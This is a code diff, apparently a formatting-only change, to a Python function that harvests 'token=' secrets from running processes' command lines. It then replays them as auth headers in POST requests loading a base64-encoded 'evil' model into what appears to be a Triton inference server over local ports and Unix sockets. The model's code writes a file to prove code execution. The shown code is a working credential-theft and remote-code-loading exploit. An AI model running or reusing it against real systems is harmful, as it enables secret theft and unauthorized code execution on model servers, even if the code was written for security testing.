@@ -38,15 +38,16 @@ def load_model(pids: list[int], places: list[str | int], written: str) -> dict[s
     Returns:
         the tokens found, and each place's answer.
     """
-    secrets = {found for pid in pids for found in re.findall(r"[\w-]*token=[^\0,]{8,}", _command_line(pid))}
+    secrets = {
+        found for pid in pids for found in re.findall(r"[\w-]*token=[^\0,]{8,}", _command_line(pid))
+    }
     code = f"open({written!r}, 'w')\nclass TritonPythonModel:\n    def execute(self, requests):\n        return []\n"
     encoded = base64.b64encode(code.encode()).decode()
     body = json.dumps({"parameters": {"config": json.dumps(CONFIG), "file:1/model.py": encoded}})
     answers = []
     for header in ["", *(secret.replace("=", ": ", 1) + "\r\n" for secret in sorted(secrets))]:
-        head = (
-            f"POST /v2/repository/models/evil/load HTTP/1.1\r\nHost: x\r\n{header}Content-Length: {len(body)}\r\n\r\n"
-        )
+        head = "POST /v2/repository/models/evil/load HTTP/1.1\r\nHost: x\r\n"
+        head += f"{header}Content-Length: {len(body)}\r\n\r\n"
         answers += [_exchange(place, (head + body).encode()) for place in places]
     return {"secrets": sorted(secrets), "answers": answers}
 
@@ -70,7 +71,11 @@ def _command_line(pid: int) -> str:
 
 def _exchange(place: str | int, request: bytes) -> str:
     """Return the first line of the answer, or the error's name."""
-    family, address = (socket.AF_UNIX, place) if isinstance(place, str) else (socket.AF_INET, ("127.0.0.1", place))
+    family, address = (
+        (socket.AF_UNIX, place)
+        if isinstance(place, str)
+        else (socket.AF_INET, ("127.0.0.1", place))
+    )
     try:
         with socket.socket(family) as connection:
             connection.settimeout(20)
